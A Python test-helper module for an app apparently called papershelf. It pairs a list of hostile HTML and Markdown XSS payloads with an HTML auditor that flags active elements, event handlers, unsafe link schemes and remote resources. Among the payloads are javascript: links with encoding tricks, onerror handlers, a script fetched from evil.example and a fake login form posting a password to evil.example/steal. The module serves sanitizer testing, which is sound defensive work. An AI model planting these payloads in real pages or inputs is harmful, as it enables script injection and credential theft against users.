"""Hostile HTML/Markdown payloads and an HTML auditor, shared by the payload tests."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

__all__ = ["ICON", "PAYLOADS", "RAW_INERT", "Auditor", "audit", "safe_href"]

ICON = Path(__file__).resolve().parent.parent / "app" / "resources" / "icons" / "papershelf-64.png"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    '<a href="javascript:alert(3)">click</a>',
    '<a href="JaVaScRiPt:alert(4)">mixed case</a>',
    '<a href="  javascript:alert(5)">leading space</a>',
    '<a href="jav&#x09;ascript:alert(6)">tab entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(7)">entities</a>',
    '<a href="\\u006aavascript:alert(8)">unicode escape</a>',
    '<a href="vbscript:msgbox(9)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data</a>',
    "[md link](javascript:alert(11))",
    "[md data](data:text/html,<script>alert(12)</script>)",
    "<javascript:alert(13)>",
    "![remote](https://evil.example/track.png)",
    f"![local]({ICON.as_uri()})",
    f'<img src="{ICON.as_uri()}" width=300>',
    "<img src=x onerror=alert(14)>",
    '<img srcset="https://evil.example/a.png 2x">',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc=\"<script>alert(15)</script>\"></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<svg onload="alert(16)"><circle r="5"/></svg>',
    '<svg><a xlink:href="javascript:alert(17)"><text>svg link</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>",
    "<style>body { background: url(https://evil.example/bg.png) }</style>",
    '<div style="background:url(https://evil.example/x.png)">css url</div>',
    '<p style="width: expression(alert(19))">css expression</p>',
    '<span style="behavior:url(#default#VML)">behavior</span>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button>'
    "</form>",
    '<button formaction="javascript:alert(20)">go</button>',
    '<noscript><p title="</noscript><img src=x onerror=alert(21)>">',
    "<!--<img src=x onerror=alert(22)>-->",
    '<p title="--><img src=x onerror=alert(23)>">comment trick</p>',
    "<details open ontoggle=alert(24)><summary>x</summary></details>",
    '<video><source onerror="alert(25)" src=x></video>',
    '<audio src=x onerror="alert(26)">',
    '<body onload="alert(27)">',
    "<template><img src=x onerror=alert(28)></template>",
    '<a href="file:///etc/passwd">local file</a>',
    '<a href="//evil.example/protocol-relative">no scheme</a>',
    '"><script>alert(29)</script>',
    "'><img src=x onerror=alert(30)>",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    '<div onmouseover="alert(32)">hover</div>',
    '<a href="https://ok.example" onclick="alert(33)">handler on a good link</a>',
    "<marquee onstart=alert(34)>",
    '<isindex type=image src=1 onerror=alert(35)>',
    '<a href="java\u0000script:alert(36)">nul</a>',
    '<a href="java\nscript:alert(37)">newline</a>',
]

RAW_INERT = {  # not active as raw HTML: only once decoded, or once a naive filter cut <script>
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<javascript:alert(13)>",  # an unknown element to a browser; an autolink elsewhere
    '<p title="--><img src=x onerror=alert(23)>">comment trick</p>',  # text in a value
}

ACTIVE_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "form", "input", "button", "textarea", "select", "base", "link", "img", "image", "video",
    "audio", "source", "track", "picture", "noscript", "template", "isindex", "marquee",
    "portal", "body-in-body", "xml", "xss",
}  # fmt: skip
RESOURCE_ATTRIBUTES = {
    "src", "srcset", "srcdoc", "background", "poster", "action", "formaction", "data",
    "codebase", "xlink:href", "dynsrc", "lowsrc", "ping",
}  # fmt: skip
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class Auditor(HTMLParser):
    """Collects everything active in an HTML document (see the module docstring)."""

    def __init__(self, allowed_style: str | None = None, allowed_meta: int = 0) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.allowed_style = allowed_style
        self.allowed_meta = allowed_meta
        self.metas = 0
        self._in_style = False
        self._style_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        if tag == "meta":
            self.metas += 1
            names = dict(attrs)
            if (names.get("http-equiv") or "").lower() == "refresh":
                self.problems.append("meta refresh")
            if self.metas > self.allowed_meta:
                self.problems.append(f"extra <meta {attrs}>")
        if tag == "style":
            self._in_style = True
            self._style_text = []
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> handler")
            if name == "style":
                self.problems.append(f"<{tag} style=…> attribute")
            if name in RESOURCE_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}={value!r}> resource")
            if name == "href" and not safe_href(value):
                self.problems.append(f"<{tag} href={value!r}> unsafe link")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self._style_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "style" and self._in_style:
            self._in_style = False
            css = "".join(self._style_text)
            if self.allowed_style is None or css.strip() != self.allowed_style.strip():
                self.problems.append("a <style> element that is not the export's own")

    def handle_comment(self, data: str) -> None:
        if re.search(r"<\s*[a-z]", data, re.IGNORECASE):
            self.problems.append("markup inside a comment (parser differential)")


def safe_href(value: str) -> bool:
    cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
    return cleaned.startswith("#") or cleaned.startswith(SAFE_SCHEMES)


def audit(document: str, allowed_style: str | None = None, allowed_meta: int = 0) -> list[str]:
    auditor = Auditor(allowed_style, allowed_meta)
    auditor.feed(document)
    auditor.close()
    return auditor.problems
